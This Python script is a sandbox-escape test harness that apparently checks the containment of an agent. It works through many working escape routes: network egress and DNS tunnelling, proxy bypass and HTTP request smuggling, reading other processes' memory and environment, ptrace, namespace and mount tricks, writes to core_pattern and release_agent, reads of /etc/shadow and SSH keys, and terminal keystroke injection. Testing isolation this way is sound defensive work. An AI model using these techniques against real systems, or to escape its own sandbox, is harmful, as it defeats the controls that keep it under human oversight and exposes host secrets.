"""An agent that wants out. It runs in a bottle, tries one way after the other, and prints a line for each:

    NN name: closed|OPEN|not-here detail

OPEN: something outside was reached, read or changed, or a packet could be sent to it. closed: refused. not-here: the
machine or the test has no such thing. argv[1] is a JSON file with the targets, all of which belong to the test. Run
outside of a bottle, beside the same targets, it must find them open: else its "closed" would mean nothing. It changes
nothing there but what belongs to the test.
"""

import ctypes
import errno
import fcntl
import json
import os
import re
import select
import signal
import socket
import ssl
import stat
import struct
import sys
import time
import urllib.parse

TARGETS = json.load(open(sys.argv[1], encoding="utf-8"))
NONCE = TARGETS["nonce"]
PAYLOAD = ("ESCAPED-" + NONCE).encode()
PATIENCE = 1.0  # for one answer
LIMIT = 8  # seconds for one way
AT_ONCE = 8

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
WAYS = []


class Closed(Exception):
    pass


class NotHere(Exception):
    pass


def way(name, alone=False):
    """Registers a way: it returns what it reached, or raises. Others are tried at the same time unless it is alone."""

    def register(function):
        WAYS.append((name, function, alone))
        return function

    return register


def target(key):
    if not TARGETS.get(key):
        raise NotHere("the test has no " + key)
    return TARGETS[key]


def check(result):
    """The result of a C function, or its errno as an exception."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def syscall(number, *arguments):
    if os.uname().machine != "x86_64":
        raise NotHere("the numbers of calls are those of x86_64")
    return check(libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]))


def errno_name(problem):
    return errno.errorcode.get(problem.errno, str(problem)) if problem.errno else str(problem)


# --- sockets -------------------------------------------------------------------------------------------------------


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(host, port, payload=PAYLOAD, **options):
    with socket.socket(family_of(host), socket.SOCK_STREAM, options.get("protocol", 0)) as s:
        s.settimeout(PATIENCE)
        s.connect((host, port) + options.get("more", ()))
        s.sendall(payload)
        return "connected to %s port %d" % (host, port)


def sent(s, to):
    """A datagram is out. Where that it could be sent is not bad enough, because the hosts outside count, it must come back."""
    if not TARGETS.get("sent_is_open"):
        s.settimeout(PATIENCE)
        s.recv(2048)
    return "sent to " + to


def udp(host, port, payload=PAYLOAD, more=(), protocol=0):
    with socket.socket(family_of(host), socket.SOCK_DGRAM, protocol) as s:
        s.sendto(payload, (host, port) + more)
        return sent(s, "%s port %d" % (host, port))


def first_open(tries):
    """The first of several tries that gets through; else all that was said."""
    said = []
    for attempt in tries:
        try:
            return attempt()
        except OSError as problem:
            said.append(errno_name(problem))
    raise Closed(" ".join(sorted(set(said))) or "nothing to try")


@way("TCP to a host")
def _():
    return tcp(target("internet"), 443)


@way("TCP with data in the SYN")
def _():
    fast_open = 0x20000000
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        try:
            s.sendto(PAYLOAD, fast_open, (target("internet"), 443))
        except BlockingIOError:
            pass  # under way
        if not select.select([], [s], [], PATIENCE)[1]:
            raise Closed("no answer")
        problem = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if problem:
            raise OSError(problem, os.strerror(problem))
    return "connected"


@way("multipath TCP")
def _():
    return tcp(target("internet"), 443, protocol=262)


@way("SCTP")
def _():
    return tcp(target("internet"), 443, protocol=132)


@way("UDP to a host")
def _():
    return udp(target("internet"), 4444)


@way("QUIC")
def _():
    initial = b"\xc3\x00\x00\x00\x01\x08" + os.urandom(8) + b"\x00\x00\x44\x9e" + PAYLOAD.ljust(1182, b"\0")
    return udp(target("internet"), 443, initial)


@way("UDP-Lite")
def _():
    return udp(target("internet"), 4444, protocol=136)


@way("TCP over IPv6")
def _():
    return tcp(target("internet6"), 443)


@way("UDP over IPv6")
def _():
    return udp(target("internet6"), 443)


@way("IPv6 link-local")
def _():
    address = target("link_local6")
    return first_open([lambda i=i: udp(address, 5353, more=(0, i)) for i, _ in socket.if_nameindex()])


@way("multicast and broadcast")
def _():
    def cast(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(PAYLOAD, (address, 5353))
            return sent(s, address)

    return first_open([lambda a=a: cast(a) for a in ("224.0.0.251", "255.255.255.255")])


@way("metadata address")
def _():
    return tcp(target("metadata"), 80, b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")


@way("gateway's ports")
def _():
    return first_open([lambda p=p: tcp(target("gateway"), p) for p in (22, 53, 80, 2375)])


@way("gateway by UDP")
def _():
    return first_open([lambda p=p: udp(target("gateway"), p) for p in (53, 123, 443)])


@way("neighbours of the bottle's own address")
def _():
    """In the bottle's own subnet only the proxy answers."""
    proxy, calls = proxy_address()[0], {}
    for address, bits in own_addresses():
        if address.startswith("127."):
            continue
        base = struct.unpack(">I", socket.inet_aton(address))[0] & ~((1 << (32 - bits)) - 1)
        for host in range(base + 1, base + min(1 << (32 - bits), 16) - 1):
            name = socket.inet_ntoa(struct.pack(">I", host))
            for port in (22, 53, 80, 443, 2375, 3128, 8888) if name not in (address, proxy) else ():
                s = socket.socket()
                s.setblocking(False)
                calls[s] = (name, port, s.connect_ex((name, port)))
    time.sleep(0.5)
    reached = []
    for s, (name, port, problem) in calls.items():
        if problem == errno.EINPROGRESS:
            problem = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) if select.select([], [s], [], 0)[1] else errno.ETIMEDOUT
        if problem in (0, errno.ECONNREFUSED):
            reached.append("%s port %d" % (name, port))
        s.close()
    if reached:
        return "found " + ", ".join(reached[:4])
    raise Closed("%d asked" % len(calls))


@way("ports of loopback that are not the proxy's")
def _():
    """pipelock, the exit, whatever else the host has on loopback: none is in here."""
    proxies = {proxy_address()[1], 443, 80}
    found = []
    for last in (1, 2):
        for port in list(range(1, 1024)) + TARGETS.get("loopback_ports", []) + [2375, 2376, 3128, 5000, 8080, 8888, 9090]:
            if last == 1 and port in proxies:
                continue
            with socket.socket() as s:
                s.settimeout(0.2)
                if s.connect_ex(("127.0.0.%d" % last, port)) == 0:
                    found.append("127.0.0.%d:%d" % (last, port))
    if found:
        return "connected to " + " ".join(found[:6])
    raise Closed("nobody listens")


@way("exit's name server")
def _():
    return "answered %s" % dns_ask("127.0.0.2", "exit." + NONCE + ".test")[0]


def own_addresses():
    """IPv4 address and prefix length of each interface."""
    out = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _, name in socket.if_nameindex():
            request = struct.pack("256s", name.encode())
            try:
                address = fcntl.ioctl(s, 0x8915, request)[20:24]
                mask = fcntl.ioctl(s, 0x891B, request)[20:24]
            except OSError:
                continue
            out.append((socket.inet_ntoa(address), bin(struct.unpack(">I", mask)[0]).count("1")))
    return out


@way("ICMP by a raw socket")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00" + PAYLOAD, (target("internet"), 0))
    return "sent"


@way("ICMP by a ping socket")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00" + PAYLOAD, (target("internet"), 0))
        return sent(s, target("internet"))


@way("IP packets of one's own making")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        host = socket.inet_aton(target("internet"))
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(PAYLOAD), 1, 0, 64, 253, 0, b"\0" * 4, host)
        s.sendto(head + PAYLOAD, (target("internet"), 0))
    return "sent"


@way("frames by a packet socket")
def _():
    return first_open([lambda n=n: frame(n) for _, n in socket.if_nameindex() if n != "lo"])


def frame(interface):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((interface, 0x88B5))
        s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x88\xb5" + PAYLOAD)
    return "sent on " + interface


def netlink(kind, flags, body):
    """One route netlink request; its error as an exception."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(PATIENCE)
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 0x5, 1, 0) + body)
        answer = s.recv(4096)
        number = -struct.unpack("=i", answer[16:20])[0]
        if number:
            raise OSError(number, os.strerror(number))
    return "the kernel did it"


@way("a route of one's own")
def _():
    to = struct.pack("=HH4s", 8, 1, socket.inet_aton("198.18.0.0"))
    interface = struct.pack("=HHI", 8, 4, 1)  # the first
    return netlink(24, 0x600, struct.pack("=BBBBBBBBI", 2, 15, 0, 0, 254, 3, 253, 1, 0) + to + interface)


@way("an interface of one's own")
def _():
    kind = struct.pack("=HH4s4x", 9, 1, b"veth")
    info = struct.pack("=HH", 4 + len(kind), 18) + kind
    return netlink(16, 0x600, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + info)


@way("sockets of the hypervisor")
def _():
    # Nothing is sent: with such a socket a process can reach the machine around this one, from any network namespace.
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "AF_VSOCK sockets can be made"


@way("Bluetooth, CAN and other families")
def _():
    families = {"AF_BLUETOOTH": (31, 3, 0), "AF_CAN": (29, 3, 1), "AF_TIPC": (30, 5, 0), "AF_RDS": (21, 5, 0),
                "AF_NFC": (39, 5, 1), "AF_QIPCRTR": (42, 2, 0), "AF_XDP": (44, 3, 0), "AF_KCM": (41, 2, 0),
                "AF_SMC": (43, 1, 0)}
    made = []
    for name, arguments in families.items():
        try:
            socket.socket(*arguments).close()
            made.append(name)
        except OSError:
            pass
    if made:
        return "made " + " ".join(made)
    raise Closed("none of %d" % len(families))


# --- names ---------------------------------------------------------------------------------------------------------


def dns_ask(server, name, kind=1, stream=False):
    question = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        question += bytes([len(label)]) + label.encode()
    question += struct.pack(">BHH", 0, kind, 1)
    with socket.socket(family_of(server), socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((server, 53))
        if stream:
            s.sendall(struct.pack(">H", len(question)) + question)
            answer = s.recv(4096)[2:]
        else:
            s.send(question)
            answer = s.recv(4096)
    code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    data = answer[-4:] if kind == 1 and answers else b""
    return "code %d with %d answers" % (code, answers), socket.inet_ntoa(data) if data else ""


def own_name_servers():
    text = open("/etc/resolv.conf", encoding="utf-8").read()
    return re.findall(r"^nameserver\s+(\S+)", text, re.M) or ["127.0.0.1"]


def tunnelled(label):
    return "%s.%s.tunnel.test" % (PAYLOAD.hex()[:60], label)


def judge_name(said, address):
    try:
        own = proxy_address()[0]
    except NotHere:
        own = ""
    if address and address != own:
        return said + ": " + address
    raise Closed(said + (", the proxy's own address" if address else ""))


@way("a resolver of one's choice")
def _():
    return dns_ask(target("resolver"), tunnelled("chosen"))[0]


@way("a resolver of one's choice, by TCP")
def _():
    return dns_ask(target("resolver"), tunnelled("stream"), stream=True)[0]


@way("a tunnel of names")
def _():
    return judge_name(*dns_ask(own_name_servers()[0], tunnelled("a")))


@way("a tunnel of names: TXT")
def _():
    said, _ = dns_ask(own_name_servers()[0], tunnelled("txt"), kind=16)
    if said.endswith(" 0 answers"):
        raise Closed(said)
    return said


@way("a tunnel of names: the system's resolver")
def _():
    found = socket.getaddrinfo(tunnelled("libc"), 443, socket.AF_INET, socket.SOCK_STREAM)
    return judge_name("resolved", found[0][4][0])


# --- the proxy -----------------------------------------------------------------------------------------------------


def proxy_address():
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
    if not url.hostname:
        raise NotHere("no proxy is set")
    return url.hostname, url.port or 80


def proxy():
    return socket.create_connection(proxy_address(), timeout=PATIENCE + 1.5)


def head_of(s):
    text = b""
    while b"\r\n\r\n" not in text and len(text) < 65536:
        piece = s.recv(4096)
        if not piece:
            break
        text += piece
    return text


def judge(answer):
    line = answer.split(b"\r\n", 1)[0].decode("latin-1")
    words = line.split()
    if len(words) > 1 and words[0].startswith("HTTP/") and words[1].startswith("2"):
        return line
    raise Closed(line or "the connection was closed")


def tunnel(authority):
    s = proxy()
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
    judge(head_of(s))
    return s


def secured(s, name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(s, server_hostname=name)


def fetch(authority, name=None, host=None, request=None):
    """CONNECT, TLS, one request; what came back when it was a success."""
    bare = authority.rsplit(":", 1)[0].strip("[]")
    with secured(tunnel(authority), name or bare) as s:
        s.sendall(request or ("GET /text HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host or bare)).encode())
        return judge(head_of(s))


def plainly(text):
    with proxy() as s:
        s.sendall(text.encode())
        return judge(head_of(s))


@way("CONNECT to an address")
def _():
    return fetch(target("internet") + ":443")


@way("CONNECT to an IPv6 address")
def _():
    return fetch("[%s]:443" % target("internet6"))


@way("CONNECT to the metadata address")
def _():
    return fetch(target("metadata") + ":443")


@way("CONNECT to the proxy's own listener")
def _():
    host, port = proxy_address()
    return first_open_proxy(["localhost:%d" % port, "127.0.0.1:%d" % port, "[::1]:%d" % port, "%s:%d" % (host, port), "0.0.0.0:%d" % port])


def first_open_proxy(authorities):
    said = []
    for authority in authorities:
        try:
            return authority + " " + fetch(authority)
        except (OSError, Closed) as problem:
            said.append(str(problem))
    raise Closed("; ".join(sorted(set(said))))


@way("addresses in strange spelling")
def _():
    number = struct.unpack(">I", socket.inet_aton(target("metadata")))[0]
    return first_open_proxy(["%d:443" % number, "0x%x:443" % number, "0%o.1:443" % 127, "[::ffff:%s]:443" % target("metadata"), "127.1:443"])


@way("an allowed name that leads to loopback")
def _():
    return fetch(target("loop") + ":443")


@way("an allowed name that leads to the metadata address")
def _():
    return fetch(target("rebind") + ":443")


@way("CONNECT to a host that is not allowed")
def _():
    return fetch("refused.test:443")


@way("CONNECT with data in the name")
def _():
    return fetch(tunnelled("connect") + ":443")


@way("a wildcard's neighbour")
def _():
    return first_open_proxy([target("allowed") + ".refused.test:443", "x" + target("allowed") + ":443", target("allowed") + "..:443"])


@way("another port of an allowed host")
def _():
    return fetch(target("allowed") + ":22")


@way("bytes that are no TLS in a tunnel")
def _():
    with tunnel(target("allowed") + ":443") as s:
        s.sendall(b"SSH-2.0-" + PAYLOAD + b"\r\n")
        answer = head_of(s)
    if b"HTTP/1.1 4" in answer or not answer or answer[:1] == b"\x15":
        raise Closed("refused" if answer else "the connection was closed")
    return "%d bytes came back" % len(answer)


@way("another name in the handshake")
def _():
    return fetch(target("allowed") + ":443", name="refused.test", host="refused.test")


@way("another host in the request")
def _():
    return fetch(target("allowed") + ":443", host="refused.test")


@way("an absolute target inside the tunnel")
def _():
    request = "GET https://refused.test/text HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % target("allowed")
    return fetch(target("allowed") + ":443", request=request.encode())


@way("two lengths in one request")
def _():
    request = ("POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
               "GET /text HTTP/1.1\r\nHost: refused.test\r\n\r\n" % target("allowed"))
    return fetch(target("allowed") + ":443", request=request.encode())


@way("a request hidden by a bare line end")
def _():
    request = "GET /text HTTP/1.1\r\nHost: %s\r\nX: a\nTransfer-Encoding: chunked\r\n\r\n" % target("allowed")
    return fetch(target("allowed") + ":443", request=request.encode())


@way("absolute form to an address")
def _():
    return plainly("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (target("internet"), target("internet")))


@way("absolute form to the metadata address")
def _():
    return plainly("GET http://%s/latest/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (target("metadata"), target("metadata")))


@way("absolute form with an allowed Host")
def _():
    return plainly("GET http://refused.test/ HTTP/1.1\r\nHost: %s\r\n\r\n" % target("allowed"))


@way("other schemes")
def _():
    said = []
    for scheme in ("ftp", "file", "gopher", "ws", "unix"):
        try:
            return scheme + ": " + plainly("GET %s://%s/etc/passwd HTTP/1.1\r\nHost: %s\r\n\r\n" % (scheme, target("allowed"), target("allowed")))
        except Closed as problem:
            said.append(str(problem))
    raise Closed("; ".join(sorted(set(said))))


@way("SOCKS on the proxy's port")
def _():
    with proxy() as s:
        s.settimeout(PATIENCE)
        s.sendall(b"\x05\x01\x00")
        answer = s.recv(16)
    if answer[:2] == b"\x05\x00":
        return "it speaks SOCKS"
    raise Closed("%d bytes, no SOCKS" % len(answer))


@way("the catch-all TLS listener, a refused name")
def _():
    with secured(socket.create_connection((proxy_address()[0], 443), timeout=PATIENCE), "refused.test") as s:
        s.sendall(b"GET /text HTTP/1.1\r\nHost: refused.test\r\nConnection: close\r\n\r\n")
        return judge(head_of(s))


@way("the catch-all HTTP listener, a refused name")
def _():
    with socket.create_connection((proxy_address()[0], 80), timeout=PATIENCE) as s:
        s.sendall(b"GET /text HTTP/1.1\r\nHost: refused.test\r\nConnection: close\r\n\r\n")
        return judge(head_of(s))


# --- sockets of the file system --------------------------------------------------------------------------------------


@way("engines' and other sockets")
def _():
    def connect(path):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(PATIENCE)
            s.connect(path)
        return "connected to " + path

    return first_open([lambda p=p: connect(p) for p in target("unix")])


@way("any socket that can be found")
def _():
    """Walks the places where services leave sockets."""
    found = []
    for top in ("/run", "/var/run", "/tmp", "/var/lib", "/dev"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        with socket.socket(socket.AF_UNIX) as s:
                            s.settimeout(PATIENCE)
                            s.connect(path)
                        found.append(path)
                except OSError:
                    pass
    if found:
        return "connected to " + " ".join(found[:4])
    raise Closed("none takes a connection")


@way("abstract sockets of the host")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(PATIENCE)
        s.connect("\0" + target("abstract"))
    return "connected"


@way("inherited descriptors")
def _():
    found = []
    for name in INHERITED:
        found.append(name)
    if found:
        return " ".join(found)
    raise Closed("0, 1 and 2 alone")


# --- processes -----------------------------------------------------------------------------------------------------


def others():
    """Processes that are not this script's own family."""
    mine = {os.getpid(), os.getppid(), FIRST}
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine]


def victim():
    """The number of a process outside, and whether that number is free of a process in here."""
    number = target("victim")
    try:
        if target("canary").encode() not in open("/proc/%d/environ" % number, "rb").read():
            raise Closed("number %d is a process of the bottle's own" % number)
    except OSError:
        pass  # not to be seen, but perhaps it can be named
    return number


@way("environment of other processes")
def _():
    return search(lambda pid: open("/proc/%d/environ" % pid, "rb").read())


@way("command lines of other processes")
def _():
    return search(lambda pid: open("/proc/%d/cmdline" % pid, "rb").read())


@way("files through the root of other processes")
def _():
    return search(lambda pid: open("/proc/%d/root%s" % (pid, target("secret_file")), "rb").read())


@way("descriptors of other processes")
def _():
    def read(pid):
        for number in os.listdir("/proc/%d/fd" % pid):
            path = "/proc/%d/fd/%s" % (pid, number)
            if stat.S_ISREG(os.stat(path).st_mode):
                with open(path, "rb") as file:
                    if target("canary").encode() in file.read(65536):
                        return target("canary").encode()
        return b""

    return search(read)


def search(read):
    wanted = target("canary").encode()
    looked, refused = 0, 0
    for pid in others():
        looked += 1
        try:
            if wanted in read(pid):
                return "process %d" % pid
        except OSError:
            refused += 1
    raise Closed("%d processes, %d refused" % (looked, refused))


@way("memory of another process")
def _():
    with open("/proc/%d/mem" % victim(), "rb") as file:
        file.seek(readable_range(victim()))
        return "%d bytes read" % len(file.read(16))


def readable_range(pid):
    for line in open("/proc/%d/maps" % pid, encoding="utf-8"):
        if " r" in line:
            return int(line.split("-")[0], 16)
    raise Closed("no maps")


@way("process_vm_readv")
def _():
    number = victim()
    buffer = ctypes.create_string_buffer(16)
    try:
        at = readable_range(number)
    except OSError:
        at = 0x400000
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_void_p * 2)(at, 16)
    return "%d bytes read" % syscall(310, number, local, 1, remote, 1, 0)


@way("ptrace")
def _():
    number = victim()
    check(libc.ptrace(16, number, None, None))
    os.waitpid(number, 0x40000000)
    check(libc.ptrace(17, number, None, None))
    return "attached"


@way("a signal to a process outside")
def _():
    os.kill(victim(), signal.SIGUSR1)
    return "sent"


@way("a descriptor of a process outside")
def _():
    descriptor = os.pidfd_open(victim())
    return "stolen: %d" % syscall(438, descriptor, 1, 0)


@way("System V shared memory")
def _():
    number = check(libc.shmget(target("shm_key"), 0, 0o600))
    libc.shmat.restype = ctypes.c_void_p
    return "read %r" % ctypes.string_at(libc.shmat(number, None, 0o10000), 8)


@way("keys of the caller's session")
def _():
    session, search_key, read_key = -3, 10, 11
    number = syscall(250, search_key, session, b"user", target("key").encode(), 0)
    buffer = ctypes.create_string_buffer(64)
    length = syscall(250, read_key, number, buffer, 64)
    return "%d bytes of it" % length


# --- namespaces and privileges -------------------------------------------------------------------------------------

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000


@way("a new network namespace")
def _():
    check(libc.unshare(CLONE_NEWNET))
    return "made, with the privileges that this takes"


@way("power by a new user namespace")
def _():
    """A user namespace is none by itself; power over this network or these mounts would be."""
    check(libc.unshare(CLONE_NEWUSER))
    return first_open([
        lambda: netlink(16, 0, struct.pack("=BxHiII", 0, 0, 1, 1, 1)),
        lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close() or "packet sockets",
        lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)) or "core_pattern",
    ])


def enter_other(name, flag):
    own = os.stat("/proc/self/ns/" + name).st_ino
    said = []
    for pid in [1, target("victim")] + others():
        try:
            descriptor = os.open("/proc/%d/ns/%s" % (pid, name), os.O_RDONLY)
            if os.fstat(descriptor).st_ino == own:
                said.append("the same")
                continue
            check(libc.setns(descriptor, flag))
            return "entered that of process %d" % pid
        except OSError as problem:
            said.append(errno_name(problem))
    raise Closed(" ".join(sorted(set(said))))


@way("another network namespace")
def _():
    return enter_other("net", CLONE_NEWNET)


@way("another mount namespace")
def _():
    return enter_other("mnt", CLONE_NEWNS)


@way("another user namespace")
def _():
    return enter_other("user", CLONE_NEWUSER)


@way("mount", alone=True)
def _():
    check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    check(libc.umount2(b"/tmp", 2))
    return "mounted"


@way("mount again, writable", alone=True)
def _():
    remount, bind = 32, 4096
    check(libc.mount(b"none", b"/etc", None, remount | bind, None))
    return "mounted"


@way("mount by descriptors")
def _():
    return "opened %d" % syscall(430, b"tmpfs", 0)


@way("unmount what hides", alone=True)
def _():
    hidden = target("hidden")
    check(libc.umount2(hidden.encode(), 2))
    return "gone"


@way("chroot and back")
def _():
    os.chroot("/tmp")
    return "done"


@way("pivot_root", alone=True)
def _():
    return "done %d" % syscall(155, b"/tmp", b"/tmp")


@way("device nodes")
def _():
    path = "hostile-device"
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    os.unlink(path)
    return "made"


@way("devices of the machine")
def _():
    names = ["mem", "kmem", "port", "kmsg", "sda", "vda", "nvme0n1", "kvm", "fuse", "net/tun", "vsock", "vhost-net", "dri/card0", "input/event0", "loop-control", "mapper/control", "cpu/0/msr"]
    open_ones = []
    for name in names:
        try:
            os.close(os.open("/dev/" + name, os.O_RDWR | os.O_NONBLOCK))
            open_ones.append(name)
        except OSError:
            pass
    if open_ones:
        return "opened " + " ".join(open_ones)
    raise Closed("none of %d" % len(names))


@way("capabilities and set-user-ID programs")
def _():
    text = open("/proc/self/status", encoding="utf-8").read()
    sets = {k: int(re.search(r"^%s:\s*(\w+)" % k, text, re.M).group(1), 16) for k in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")}
    new_privileges = "NoNewPrivs:\t1" not in text
    if sets["CapEff"] or sets["CapPrm"] or sets["CapAmb"] or (new_privileges and sets["CapBnd"]):
        return "effective %x, bounding %x, no_new_privs %s" % (sets["CapEff"], sets["CapBnd"], not new_privileges)
    raise Closed("none, and none to be had")


@way("BPF")
def _():
    attributes = struct.pack("=IIII", 2, 4, 8, 1).ljust(128, b"\0")  # an array map
    descriptor = syscall(321, 0, attributes, 128)
    return "a map: %d" % descriptor


@way("perf events")
def _():
    attributes = struct.pack("=IIQQQQQ", 1, 112, 0, 0, 0, 0, 0).ljust(112, b"\0")
    return "opened %d" % syscall(298, attributes, victim(), -1, -1, 0)


@way("io_uring, past a filter of calls")
def _():
    parameters = ctypes.create_string_buffer(120)
    return "made %d" % syscall(425, 1, parameters)


@way("files by handle")
def _():
    open_by_handle = 304
    handle = struct.pack("=IiQ", 8, 1, 2)
    descriptor = os.open(".", os.O_RDONLY)
    return "opened %d" % syscall(open_by_handle, descriptor, handle, os.O_RDONLY)


@way("kernel modules")
def _():
    return "loaded %d" % syscall(175, b"\x7fELF", 4, b"")


@way("typing into the terminal")
def _():
    tiocsti = 0x5412
    for number in (0, 1, 2):
        if os.isatty(number):
            fcntl.ioctl(number, tiocsti, b"x")
            return "typed into descriptor %d" % number
    with open("/dev/tty", "wb", buffering=0) as terminal:
        fcntl.ioctl(terminal, tiocsti, b"x")
    return "typed into /dev/tty"


# --- files ---------------------------------------------------------------------------------------------------------


def writable(paths):
    """Opens for writing, and writes nothing."""
    done, said = [], []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
            done.append(path)
        except OSError as problem:
            said.append(errno_name(problem))
    if done:
        return "can write " + " ".join(done)
    raise Closed(" ".join(sorted(set(said))) or "there are none")


@way("files of the caller's")
def _():
    with open(target("secret_file"), "rb") as file:
        return "read %d bytes" % len(file.read())


@way("the caller's files through a link")
def _():
    link = "hostile-link"
    try:
        os.symlink(target("secret_file"), link)
    except FileExistsError:
        pass
    try:
        with open(link, "rb") as file:
            return "read %d bytes" % len(file.read())
    finally:
        os.unlink(link)


@way("new files outside of the workspace")
def _():
    """In its own /tmp and home it may write: the test looks whether that is to be seen outside."""
    made = []
    for folder in target("folders"):
        path = os.path.join(folder, "escaped-" + NONCE)
        try:
            with open(path, "wb") as file:
                file.write(PAYLOAD)
            if folder not in TARGETS["private"]:
                made.append(path)
        except OSError:
            pass
    if made:
        return "made " + " ".join(made)
    raise Closed("none but in folders of its own")


def not_the_images():
    if TARGETS.get("image"):
        raise NotHere("they are an image's, and its copy ends with the container")


@way("files of the system")
def _():
    not_the_images()
    return writable(["/etc/hostname", "/etc/ld.so.cache", "/etc/passwd", "/usr/bin/env", "/bin/sh", "/usr/lib/os-release"])


@way("the manifest, its own policy")
def _():
    return writable(target("manifest"))


@way("the launcher's files: CA, audit log, records")
def _():
    return writable(target("launchers"))


@way("secrets of the system")
def _():
    not_the_images()
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/ssl/private/ssl-cert-snakeoil.key", "/root/.ssh/id_rsa"):
        try:
            with open(path, "rb") as file:
                if file.read(1):
                    return "read " + path
        except OSError:
            pass
    raise Closed("none can be read")


@way("core_pattern and its like")
def _():
    return writable(["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register",
                     "/proc/sys/vm/panic_on_oom", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/power/state"])


@way("control groups' release_agent")
def _():
    paths = ["/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/cgroup.subtree_control"]
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        paths += [os.path.join(folder, n) for n in names if n in ("release_agent", "cgroup.procs")]
        if len(paths) > 200:
            break
    return writable(paths)


@way("kernel memory and secrets in /proc")
def _():
    done = []
    for path in ("/proc/kcore", "/proc/keys", "/proc/kallsyms", "/proc/timer_list"):
        try:
            with open(path, "rb") as file:
                text = file.read(64)
            if text.strip() and not text.startswith(b"0000000000000000 "):
                done.append(path)
        except OSError:
            pass
    if done:
        return "read " + " ".join(done)
    raise Closed("empty or refused")


# --- the allowed way, last: it must work, or nothing above was tried by a program that could ----------------------------


def attempt(function):
    try:
        return "OPEN", function()
    except NotHere as why:
        return "not-here", str(why)
    except Closed as why:
        return "closed", str(why)
    except ssl.SSLError as problem:
        return "closed", "TLS: " + str(problem.reason)
    except OSError as problem:
        return "closed", errno_name(problem)
    except AttributeError as problem:
        return "not-here", str(problem)


class Try:
    """A way in a process of its own: it may lose itself in namespaces, or hang."""

    def __init__(self, function):
        self.reader, writer = os.pipe()
        self.until = time.monotonic() + LIMIT
        self.child = os.fork()
        if self.child == 0:
            try:
                state, detail = attempt(function)
            except BaseException as problem:  # a mistake of this script: to be seen, never "closed"
                state, detail = "BROKEN", repr(problem)
            os.write(writer, json.dumps([state, detail[:300]]).encode())
            os._exit(0)
        os.close(writer)

    def result(self):
        ready = select.select([self.reader], [], [], max(0, self.until - time.monotonic()))[0]
        text = os.read(self.reader, 65536) if ready else b""
        if not ready:
            os.kill(self.child, signal.SIGKILL)
        os.waitpid(self.child, 0)
        os.close(self.reader)
        if text:
            return json.loads(text)
        return ["BROKEN", "its process died"] if ready else ["closed", "no answer in %d s" % LIMIT]


def inherited():
    """Open descriptors beyond 0, 1 and 2, looked for before this script opens any."""
    out = []
    for number in range(3, 256):
        try:
            os.fstat(number)
            out.append("%d is %s" % (number, os.readlink("/proc/self/fd/%d" % number)))
        except OSError:
            pass
    return out


FIRST = os.getpid()
INHERITED = inherited()


